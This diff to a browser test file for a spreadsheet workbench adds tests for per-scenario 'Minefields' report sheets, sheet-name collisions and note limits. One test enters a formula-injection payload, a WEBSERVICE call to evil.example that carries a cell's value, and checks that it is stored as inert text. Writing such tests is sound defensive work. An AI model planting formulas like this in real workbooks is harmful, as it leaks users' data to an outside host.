@@ -232,10 +232,10 @@ describeInBrowser("npm start on Linux", () => {
     expect(await status(4)).toBe("watch");
     expect(await page.locator("img[src=x]").count()).toBe(0);
 
-    // Write the report: a Minefields sheet, one row per minefield.
+    // Write the report: this scenario's own Minefields sheet, one row per minefield.
     await page.click("#write-report");
     await page.waitForSelector("#notice");
-    expect(await page.textContent("#notice")).toContain("Minefields");
+    expect(await page.textContent("#notice")).toContain("Minefields - Growth");
     await page.click('[role="tab"]:has-text("Minefields")');
     await page.waitForSelector("#report-sheet");
     expect(await page.locator('[data-binding="thisMonth"]').count()).toBe(0);
@@ -268,7 +268,7 @@ describeInBrowser("npm start on Linux", () => {
     await page.click("#write-report");
     await page.waitForFunction(() => document.querySelector("#notice") !== null);
     const tabs = await page.locator('[role="tab"]').allTextContents();
-    expect(tabs.filter((t) => t === "Minefields")).toHaveLength(1);
+    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth"]);
 
     // Insert a scenario sheet from the template: the pane follows it.
     await page.click("#insert-scenario");
@@ -276,6 +276,134 @@ describeInBrowser("npm start on Linux", () => {
     expect(await cell(page, "C10")).toBe("150,000.00");
     expect(errors).toEqual([]);
     expect(outside).toEqual([]);
+    await page.context().close();
+  });
+
+  /** Writes a workbook made with ExcelJS into test-output and opens it through the file picker. */
+  async function openFile(page: Page, name: string, build: (workbook: ExcelJS.Workbook) => void): Promise<void> {
+    const workbook = new ExcelJS.Workbook();
+    build(workbook);
+    const file = path.join(OUTPUT, name);
+    await workbook.xlsx.writeFile(file);
+    await page.setInputFiles("#open", file);
+  }
+
+  const status = (page: Page, id: number) => page.getAttribute(`[data-minefield="${id}"] [data-status]`, "data-status");
+
+  it("issue 14 items 7 and 9: notes are written as text, and each scenario has its own report", async () => {
+    const { page, errors } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="2"] [data-status]');
+    await page.click('[role="tab"]:has-text("Growth")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Growth");
+    const hostile = '=WEBSERVICE("http://evil.example/?"&Growth!B4)';
+    await page.fill('[data-minefield="1"] textarea', "=1+1");
+    await page.fill('[data-minefield="4"] textarea', hostile);
+    await page.fill('[data-minefield="5"] textarea', "-5% CPM, 10%");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Growth"));
+    await page.click('[role="tab"]:has-text("Minefields - Growth")');
+    await page.waitForSelector("#report-sheet");
+    expect(await cell(page, "D2")).toBe("=1+1");
+    expect(await cell(page, "D5")).toBe(hostile);
+    expect(await cell(page, "D6")).toBe("-5% CPM, 10%");
+    expect(await page.locator('td[data-cell="D2"].formula').count()).toBe(0);
+    // Another scenario's report is its own sheet; Growth's stays as it was.
+    await page.click('[role="tab"]:has-text("Mature")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Mature");
+    await page.waitForSelector('[data-minefield="1"] textarea');
+    await page.fill('[data-minefield="1"] textarea', "mature plan");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Mature"));
+    const tabs = await page.locator('[role="tab"]').allTextContents();
+    expect(tabs.filter((t) => t.startsWith("Minefields"))).toEqual(["Minefields - Growth", "Minefields - Mature"]);
+    await page.click('[role="tab"]:has-text("Minefields - Growth")');
+    expect(await cell(page, "D2")).toBe("=1+1");
+    expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("issue 14 item 9: a user's own sheet called Minefields is never written into", async () => {
+    const { page } = await openWorkbench();
+    await openFile(page, "has-minefields.xlsx", (workbook) => {
+      workbook.addWorksheet("MINEFIELDS").getCell("A1").value = "my own checklist";
+      const plan = workbook.addWorksheet("Plan");
+      plan.getCell("A1").value = "budget";
+      plan.getCell("B1").value = 300000;
+    });
+    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "has-minefields.xlsx");
+    await page.click('[role="tab"]:has-text("Plan")');
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Plan");
+    await page.click("#write-report");
+    await page.waitForFunction(() => document.querySelector("#notice")?.textContent?.includes("Minefields - Plan"));
+    await page.click('[role="tab"]:has-text("MINEFIELDS")');
+    expect(await cell(page, "A1")).toBe("my own checklist");
+    expect(await cell(page, "A2")).toBe("");
+    // The user's sheet is a sheet like any other: the checklist shows there, not the report notice.
+    expect(await page.locator("#report-sheet").count()).toBe(0);
+    await page.context().close();
+  });
+
+  it("issue 14 item 8: Insert scenario never replaces a user's sheet whose name differs only in case", async () => {
+    const { page, errors } = await openWorkbench();
+    await openFile(page, "case.xlsx", (workbook) => {
+      const assumptions = workbook.addWorksheet("assumptions");
+      assumptions.getCell("A1").value = "my own assumptions";
+      assumptions.getCell("B1").value = 42;
+      workbook.addWorksheet("scenario 1").getCell("A1").value = "my own scenario";
+    });
+    await page.waitForFunction(() => document.querySelector("#file-name")?.textContent === "case.xlsx");
+    await page.waitForSelector("#insert-scenario");
+    await page.click("#insert-scenario");
+    await page.waitForFunction(() => document.querySelector("#root #sheet")?.textContent === "Scenario 2");
+    const tabs = await page.locator('[role="tab"]').allTextContents();
+    expect(tabs).toEqual(["assumptions", "scenario 1", "Assumptions (2)", "Scenario 2"]);
+    // The new scenario reads its own assumptions and computes: growth, half of 300,000.
+    expect(await cell(page, "C10")).toBe("150,000.00");
+    await page.click('td[data-cell="C10"]');
+    expect(await page.inputValue("#formula")).toContain("'Assumptions (2)'!$A$1:$B$8");
+    await page.click('[role="tab"]:has-text("assumptions")');
+    expect(await cell(page, "A1")).toBe("my own assumptions");
+    expect(await cell(page, "B1")).toBe("42");
+    await page.click('[role="tab"]:has-text("scenario 1")');
+    expect(await cell(page, "A1")).toBe("my own scenario");
+    expect(errors).toEqual([]);
+    await page.context().close();
+  });
+
+  it("issue 14 item 10: says the note limit where the user types, keeps the note whole, and saves a note typed just before the pane closes", async () => {
+    const { page } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="6"] textarea');
+    const hint = page.locator('[data-note-length="6"]');
+    expect(await hint.textContent()).toBe("0 of 5,000 characters");
+    // Pasting 100,000 characters keeps the first 5,000, and says so.
+    await page.fill('[data-minefield="6"] textarea', "长".repeat(100_000));
+    expect((await page.inputValue('[data-minefield="6"] textarea')).length).toBe(5000);
+    expect(await hint.textContent()).toBe("5,000 of 5,000 characters: a note keeps at most 5,000.");
+    await page.fill('[data-minefield="7"] textarea', "typed just before closing");
+    // At once, well inside the 300 ms the pane waits before saving: the unmount saves it.
+    await page.click("#reload-pane");
+    await page.waitForSelector('[data-minefield="7"] textarea');
+    await page.waitForFunction(() => (document.querySelector('[data-minefield="7"] textarea') as HTMLTextAreaElement)?.value !== "");
+    expect(await page.inputValue('[data-minefield="7"] textarea')).toBe("typed just before closing");
+    expect(await page.inputValue('[data-minefield="6"] textarea')).toBe("长".repeat(5000));
+    await page.locator('[data-minefield="6"]').screenshot({ path: path.join(OUTPUT, "checklist-note-limit-en.png") });
+    await page.context().close();
+  });
+
+  it("issue 14 item 15: answers belong to the workbook opened, not to its file name", async () => {
+    const { page } = await openWorkbench();
+    await page.waitForSelector('[data-minefield="5"] input[value="clear"]');
+    await page.check('[data-minefield="5"] input[value="clear"]');
+    await page.fill('[data-minefield="5"] textarea', "answered in the template");
+    await page.waitForTimeout(600);
+    // Another file that happens to have the same name.
+    await openFile(page, "spillsplit-planner.xlsx", (workbook) => {
+      workbook.addWorksheet("Growth").getCell("A1").value = "someone else's plan";
+    });
+    await page.waitForFunction(() => document.querySelector("#message")?.textContent === "Opened spillsplit-planner.xlsx.");
+    await page.waitForSelector('[data-minefield="5"] textarea');
+    expect(await page.inputValue('[data-minefield="5"] textarea')).toBe("");
+    expect(await status(page, 5)).toBe("unanswered");
     await page.context().close();
   });
 
